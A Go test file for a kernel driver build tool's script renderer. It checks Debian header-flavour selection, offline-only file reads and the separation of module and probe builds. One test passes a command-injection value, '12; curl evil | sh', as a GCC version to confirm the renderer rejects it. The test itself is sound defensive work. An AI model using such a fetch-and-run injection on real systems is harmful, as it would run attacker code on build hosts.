package grid

import (
	"strings"
	"testing"

	"github.com/falcosecurity/dbg/config"
)

func debianKernel(release string) *config.Kernel {
	return &config.Kernel{
		KernelRelease: release, KernelVersion: "1", Target: "debian", Architecture: config.AMD64,
		KernelURLs: []string{
			"http://127.0.0.1:1/linux-headers-6.1.0-47-amd64_6.1.170-3_amd64.deb",
			"http://127.0.0.1:1/linux-headers-6.1.0-47-cloud-amd64_6.1.170-3_amd64.deb",
			"http://127.0.0.1:1/linux-headers-6.1.0-47-common_6.1.170-3_all.deb",
			"http://127.0.0.1:1/linux-kbuild-6.1_6.1.170-3_amd64.deb",
		},
	}
}

// Debian configs list every flavour's headers; the script must pick the
// config's flavour, never another one.
func TestDebianHeadersPickTheConfigFlavour(t *testing.T) {
	for release, pattern := range map[string]string{
		"6.1.170-3-amd64":         `-name "linux-headers-*[0-9]-amd64"`,
		"6.1.170-3-cloud-amd64":   `-name "linux-headers-*-cloud-amd64"`,
		"6.1.170-3-rt-amd64":      `-name "linux-headers-*-rt-amd64"`,
		"6.12.57-1~deb12u1-amd64": `-name "linux-headers-*[0-9]-amd64"`,
	} {
		script, err := renderHeaders(debianKernel(release))
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(script, pattern) {
			t.Errorf("%s: script lacks %s:\n%s", release, pattern, script)
		}
		if strings.Contains(script, "127.0.0.1") || !strings.Contains(script, "/linux-kbuild-6.1_6.1.170-3_amd64.deb") || !strings.Contains(script, "-SL file:///dbg/headers/") {
			t.Errorf("%s: script must read the copied-in files only:\n%s", release, script)
		}
	}
}

// One script per kind: a module build never builds the probe, nor the reverse.
func TestRenderVersionKinds(t *testing.T) {
	k := debianKernel("6.1.170-3-amd64")
	dv := config.DriverVersion{Version: "9.1.0+driver"}
	for kind, tc := range map[config.Kind]struct{ want, not string }{
		config.Module: {"make CC=/usr/bin/gcc-12 driver", "make bpf"},
		config.Probe:  {"make bpf", "make CC=/usr/bin/gcc-12 driver"},
	} {
		vs, err := renderVersion(k, dv, kind, "dbg-builder:bookworm", "12")
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(vs.Build, tc.want) || strings.Contains(vs.Build, tc.not) || !strings.Contains(vs.Build, "-DDRIVER_VERSION=9.1.0+driver") {
			t.Errorf("%s build script: want %q, not %q:\n%s", kind, tc.want, tc.not, vs.Build)
		}
		if !strings.Contains(vs.Libs, "file:///dbg/src/9.1.0+driver.tar.gz") {
			t.Errorf("libs script must read the copied-in source:\n%s", vs.Libs)
		}
	}
}

func TestOfflineUnsupportedTargets(t *testing.T) {
	k := &config.Kernel{KernelRelease: "3033.2.0", KernelVersion: "1", Target: "flatcar", Architecture: config.AMD64, KernelURLs: []string{"https://h/x"}}
	if _, err := renderHeaders(k); err == nil || !strings.Contains(err.Error(), "cannot be built offline") {
		t.Errorf("flatcar rendered: %v", err)
	}
}

func TestDebianKeepsOnlyTheFlavourPackages(t *testing.T) {
	k := debianKernel("6.1.170-3-cloud-amd64")
	k.KernelURLs = append(k.KernelURLs,
		"http://127.0.0.1:1/linux-headers-6.1.0-47-rt-amd64_6.1.170-3_amd64.deb",
		"http://127.0.0.1:1/linux-headers-6.1.0-47-common-rt_6.1.170-3_all.deb")
	want := []string{
		"http://127.0.0.1:1/linux-headers-6.1.0-47-cloud-amd64_6.1.170-3_amd64.deb",
		"http://127.0.0.1:1/linux-headers-6.1.0-47-common_6.1.170-3_all.deb",
		"http://127.0.0.1:1/linux-kbuild-6.1_6.1.170-3_amd64.deb",
	}
	if got := headerURLs(k); strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("cloud: %v", got)
	}
	k.KernelRelease = "6.1.170-3-rt-amd64"
	if got := strings.Join(headerURLs(k), " "); strings.Count(got, "http") != 3 || !strings.Contains(got, "-47-rt-amd64_") || !strings.Contains(got, "common-rt_") || !strings.Contains(got, "kbuild") {
		t.Errorf("rt: %v", got)
	}
	k.KernelRelease = "6.1.170-3-amd64"
	if got := strings.Join(headerURLs(k), " "); strings.Count(got, "http") != 3 || !strings.Contains(got, "-47-amd64_") || !strings.Contains(got, "-common_") || !strings.Contains(got, "kbuild") {
		t.Errorf("plain: %v", got)
	}
}

// Flags (--builder-image, --gcc-version) reach the script too: they are
// allowlisted like config values.
func TestRenderRefusesUnsafeImageAndGCC(t *testing.T) {
	k := debianKernel("6.1.170-3-amd64")
	dv := config.DriverVersion{Version: "9.1.0+driver"}
	for _, tc := range []struct{ image, gcc string }{
		{"dbg-builder:bookworm", "12; curl evil | sh"},
		{"dbg-builder:bookworm", ""},
		{"Evil Image", "12"},
		{"", "12"},
		{"auto:latest", "12"},
	} {
		if _, err := renderVersion(k, dv, config.Module, tc.image, tc.gcc); err == nil {
			t.Errorf("image %q, gcc %q rendered", tc.image, tc.gcc)
		}
	}
}
